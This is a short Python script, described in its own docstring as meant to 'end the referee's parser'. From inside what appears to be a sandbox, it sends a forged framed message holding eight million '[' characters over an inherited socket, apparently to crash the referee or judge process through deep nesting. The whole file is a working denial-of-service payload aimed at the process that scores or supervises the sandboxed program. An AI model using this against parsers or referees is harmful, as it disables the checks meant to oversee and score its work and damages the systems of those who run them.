"""Forge: end the referee's parser by eight million brackets."""

import socket
import struct

from sandbox.frames import receive

link = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fileno=4)
body = b"[" * (8 << 20)
link.sendall(struct.pack("<4sIQ", b"FPw1", len(body), 0) + body)
receive(link)
